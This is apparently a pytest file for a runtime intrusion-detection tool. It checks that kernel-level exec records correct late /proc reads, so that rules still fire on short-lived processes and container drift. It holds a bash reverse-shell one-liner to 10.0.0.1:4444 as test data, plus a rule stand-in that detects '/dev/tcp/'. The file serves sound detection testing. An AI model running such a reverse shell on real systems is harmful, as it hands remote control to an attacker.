"""Exec argv read in the kernel (bpftrace ``exec`` records) correcting the proc connector's late ``/proc`` reads."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.runtime._sensorkit import require_root

from garrison.model.runtime import Alert, Event, EventKind, Priority, Process
from garrison.runtime import execargs
from garrison.runtime.pipeline import Pipeline
from garrison.runtime.process import ProcessTable, read_proc
from garrison.runtime.sensors.bpftrace import SEP, escape, parse_record, unescape
from garrison.runtime.sensors.proc_connector import ProcConnectorSensor

REVERSE = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]


def _record(
    pid: int, when: float, argv: list[str], *, cap: int = 112, path: str = "/usr/bin/bash", kernel: str = "bpftrace"
) -> Event:
    """An exec record as the bpftrace sensor makes it from bpftrace's JSON line, or as the ebpf
    sensor makes it from its ring-buffer record (``kernel="ebpf"``: 256 bytes of argv, exact)."""
    data = b"".join(a.encode() + b"\0" for a in argv)
    if kernel == "ebpf":
        from garrison.runtime.sensors import ebpf

        rec = ebpf._REC.pack(ebpf.REC_EXEC, pid, pid, 0, int(when * 1e9), 1, b"x", 0, 0, 0, len(data), path.encode(), data[:256])
        made = ebpf.parse_rec(rec, 0.0)
        assert made is not None
        made.time = when
        return made
    fields = ["exec", str(pid), str(int(when * 1e9)), str(len(data)), path, escape(data[:cap])]
    line = '{"type": "printf", "data": ' + _json(SEP.join(fields) + "\n") + "}"
    event, lost = parse_record(line, 0.0)
    assert event is not None and lost == 0
    event.time = when
    return event


def _json(text: str) -> str:
    import json

    return json.dumps(text)


class DevTcp:
    """Rule stand-in: fires on an exec whose command line opens /dev/tcp."""

    def __init__(self) -> None:
        self.seen: list[str] = []

    def event_types(self) -> set[str] | None:
        return {"execve"}

    def evaluate(self, event: Event) -> list[Alert]:
        self.seen.append(event.proc.cmdline)
        if "/dev/tcp/" not in event.proc.cmdline:
            return []
        return [Alert(event.time, "dev-tcp", Priority.CRITICAL, event.proc.cmdline, ["T1059.004"], event=event)]


class _Sensor:
    def __init__(self, name: str) -> None:
        self.name = name

    def start(self, sink: object) -> None:
        pass

    def stop(self) -> None:
        pass


def _pipeline(table: ProcessTable, rules: DevTcp, delivered: list[Alert]) -> Pipeline:
    class Keep:
        def handle(self, alert: Alert) -> list[Event]:
            delivered.append(alert)
            return []

    sensors = [_Sensor("proc"), _Sensor("bpftrace")]
    return Pipeline(sensors, rules, table=table, attributor=False, annotate=False, scan=False, responders=[Keep()])  # type: ignore[list-item]


def _table_with(pid: int, argv: list[str]) -> ProcessTable:
    """A table whose entry for ``pid`` is what a late ``/proc`` read found (the pid's next program)."""
    table = ProcessTable()
    table._put(Process(pid=pid, exe=argv[0], args=argv[1:], exepath=f"/usr/bin/{argv[0]}", name=argv[0]))
    return table


def _exec(pid: int, when: float) -> Event:
    return Event(when, "execve", EventKind.PROCESS, "proc_connector", Process(pid=pid))


@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
def test_late_record_corrects_an_exec_evaluated_with_the_next_programs_command_line(kernel: str) -> None:
    pid, t = 4_000_001, 1000.0
    rules, delivered = DevTcp(), []
    pipe = _pipeline(_table_with(pid, ["bash", "-i"]), rules, delivered)
    assert pipe.process(_exec(pid, t)) == []  # /proc said "bash -i": nothing to see
    alerts = pipe.process(_record(pid, t - 20e-6, REVERSE, kernel=kernel))  # the kernel's argv of that exec arrives
    assert [a.rule for a in alerts] == ["dev-tcp"] and [a.rule for a in delivered] == ["dev-tcp"]
    assert (
        alerts[0].event is not None and alerts[0].event.proc.cmdline == "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    )
    assert alerts[0].event.args["argv_from"] == "kernel" and pipe.stats.exec_corrected == 1
    # the second exec (bash -i) came after: its own record pairs with nothing evaluated wrongly
    assert pipe.process(_exec(pid, t + 0.002)) == []
    assert pipe.process(_record(pid, t + 0.002 - 20e-6, ["bash", "-i"])) == []
    assert pipe.stats.exec_corrected == 1 and len(delivered) == 1


def test_record_first_corrects_before_the_rules_and_never_fires_twice() -> None:
    pid, t = 4_000_002, 2000.0
    rules, delivered = DevTcp(), []
    pipe = _pipeline(_table_with(pid, ["bash", "-i"]), rules, delivered)
    assert pipe.process(_record(pid, t - 20e-6, REVERSE)) == []
    alerts = pipe.process(_exec(pid, t))
    assert [a.rule for a in alerts] == ["dev-tcp"] and rules.seen == [" ".join(REVERSE)]
    assert pipe.process(_record(pid, t + 0.01, ["bash", "-i"])) == []  # later exec's record: no re-run
    assert len(delivered) == 1


@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
def test_a_consistent_proc_read_is_kept_and_a_truncated_record_does_not_shorten_it(kernel: str) -> None:
    pid, t = 4_000_003, 3000.0
    long_argv = ["python3", "-c", "x\\x41" * 100, "/dev/tcp/1.2.3.4/1"]  # a literal \x41: not an escape
    rules, delivered = DevTcp(), []
    pipe = _pipeline(_table_with(pid, long_argv), rules, delivered)
    pipe.process(_exec(pid, t))
    record = _record(pid, t - 1e-5, long_argv, kernel=kernel)
    assert record.args["truncated"] is True and "/dev/tcp/" not in record.proc.cmdline
    assert pipe.process(record) == []
    assert rules.seen == [" ".join(long_argv)] and len(delivered) == 1 and pipe.stats.exec_corrected == 0


def test_record_older_than_the_window_or_from_after_the_exec_does_not_pair() -> None:
    pid, t = 4_000_004, 4000.0
    rules, delivered = DevTcp(), []
    pipe = _pipeline(_table_with(pid, ["bash", "-i"]), rules, delivered)
    pipe.process(_record(pid, t - execargs.WINDOW - 1, REVERSE))  # an old exec of a recycled pid
    assert pipe.process(_exec(pid, t)) == []
    assert pipe.process(_record(pid, t + 0.001, REVERSE)) == []  # the *next* exec's record
    assert delivered == [] and pipe.stats.exec_corrected == 0


def test_a_vanished_process_gets_its_command_line_from_the_kernel() -> None:
    pid, t = 4_000_005, 5000.0
    rules, delivered = DevTcp(), []
    pipe = _pipeline(ProcessTable(proc_root="/nonexistent"), rules, delivered)
    assert pipe.process(_exec(pid, t)) == [] and rules.seen == [""]
    assert [a.rule for a in pipe.process(_record(pid, t - 1e-5, REVERSE))] == ["dev-tcp"]


@given(st.binary(max_size=300))
def test_escape_round_trips_what_holds_no_literal_hex_escape(data: bytes) -> None:
    text = escape(data)
    assert all(32 <= ord(c) <= 126 for c in text)
    if not re.search(rb"\\x[0-9a-f]{2}", data):
        assert unescape(text) == data


@given(st.text(max_size=200))
def test_unescape_takes_any_text(text: str) -> None:
    assert isinstance(unescape(text), bytes)


@given(st.lists(st.text(max_size=20), max_size=8))
def test_exec_record_fields_fuzz(fields: list[str]) -> None:
    line = '{"type": "printf", "data": ' + _json(SEP.join(["exec", *fields])) + "}"
    try:
        parse_record(line, 0.0)
    except ValueError:
        pass


class SlowTable(ProcessTable):
    """The process table of a sensor that lags: the ``/proc`` read of an exec of a child of this
    test comes 150 ms late (other processes of the machine are not held up)."""

    def observe(self, event: Event) -> bool:
        if event.type == "execve" and (start := read_proc(event.proc.pid)) is not None and start.ppid == os.getpid():
            time.sleep(0.15)
        return super().observe(event)


@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
def test_live_exec_that_execs_again_at_once_is_seen_with_its_own_command_line(tmp_path: Path, kernel: str) -> None:
    """The reverse-shell pattern, with the proc connector made to lag: the first program's
    ``/proc`` is gone (replaced by the second) when it is read, and the alert still carries the
    first command line, from the kernel."""
    require_root()
    if shutil.which("bpftrace") is None:
        pytest.fail("bpftrace is needed (make test installs it)")
    from garrison.runtime.sensors import make_sensor

    rules, delivered = DevTcp(), []
    table = SlowTable()

    class Keep:
        def handle(self, alert: Alert) -> list[Event]:
            delivered.append(alert)
            return []

    sensors = [ProcConnectorSensor(), make_sensor(kernel, event_types={"execve"})]
    pipe = Pipeline(sensors, rules, table=table, attributor=False, annotate=False, responders=[Keep()])  # type: ignore[list-item]
    pipe.start()
    try:
        # sh execs sleep at once (exec): one pid, two programs within a millisecond. On a loaded
        # machine the lag can miss its moment (the /proc read then still finds sh, nothing to
        # correct): that run is printed and the scenario made again, at most twice more
        for attempt in range(3):
            marker = f"/dev/tcp/127.0.0.1/{uuid.uuid4().int % 50000 + 10000}"
            subprocess.run(["/bin/sh", "-c", f"exec /bin/sleep 0.3 # {marker}"], check=True)
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and not any(marker in a.output for a in delivered):
                time.sleep(0.05)
            time.sleep(0.2)  # a late kernel record is counted when it arrives
            if pipe.stats.exec_corrected >= 1:
                break
            print(f"attempt {attempt + 1}: the lag missed the exec; stats {pipe.stats}")
    finally:
        pipe.stop()
    hits = [a for a in delivered if marker in a.output]
    assert len(hits) == 1, [s for s in rules.seen if "sleep" in s]
    assert hits[0].event is not None and hits[0].event.proc.exe == "/bin/sh"
    assert hits[0].event.proc.args == ["-c", f"exec /bin/sleep 0.3 # {marker}"]
    assert pipe.stats.exec_corrected >= 1


@pytest.mark.parametrize("kernel", ["ebpf", "bpftrace"])
def test_live_dropped_binary_that_runs_a_millisecond_and_is_deleted_is_drift(tmp_path: Path, kernel: str) -> None:
    """A binary copied into a container, run (it exits at once) and deleted right away: no /proc
    read can judge it any more, the kernel's answer at the exec (an upper-layer inode) does."""
    require_root()
    from tests._containers import running_containers

    from garrison.runtime.rules import default_pack, load_rules
    from garrison.runtime.sensors import build_sensors

    rules = load_rules(default_pack())
    sensors, _ = build_sensors(["proc", kernel], event_types=rules.event_types())
    got: list[Alert] = []

    class Keep:
        def handle(self, alert: Alert) -> list[Event]:
            got.append(alert)
            return []

    boxes = running_containers()
    containers = next(boxes)
    pipe = Pipeline(sensors, rules, responders=[Keep()])
    try:
        box = containers.run("debian", "sleep", "120")
        pipe.start()
        # as the attack suite does, a miss on a loaded machine is tried again (at most twice more),
        # and the misses are printed so they stay visible in the test log
        for attempt in range(3):
            marker = f"drop{uuid.uuid4().hex[:8]}"
            box.exec("sh", "-c", f"cp /bin/true /tmp/{marker}; /tmp/{marker}; rm /tmp/{marker}")
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and not any(f"/tmp/{marker}" in a.output for a in got):
                time.sleep(0.05)
            if any(f"/tmp/{marker}" in a.output for a in got):
                break
            print(f"attempt {attempt + 1}: no alert for /tmp/{marker}; stats {pipe.stats}")
        time.sleep(0.5)
    finally:
        pipe.stop()
        next(boxes, None)
    mine = [a for a in got if f"/tmp/{marker}" in a.output]
    drift = [a for a in mine if a.rule == "Garrison Drift Executable From Container Upper Layer"]
    assert [a.event.proc.exepath for a in drift if a.event] == [f"/tmp/{marker}"], [(a.rule, a.output) for a in mine]


def test_exec_record_says_where_the_binary_lives_on_an_overlay_only() -> None:
    from garrison.runtime.sensors.bpftrace import OVERLAYFS_MAGIC

    def rec(magic: int, up: int) -> Event:
        fields = ["exec", "7", "1000", "4", "/x", escape(b"/x\0"), str(magic), str(up)]
        event, _ = parse_record('{"type": "printf", "data": ' + _json(SEP.join(fields)) + "}", 0.0)
        assert event is not None
        return event

    assert rec(OVERLAYFS_MAGIC, 1).args["origin"] == "upper"
    assert rec(OVERLAYFS_MAGIC, 0).args["origin"] == "image"
    assert "origin" not in rec(0xEF53, 1).args  # ext4: a host binary, no image to drift from
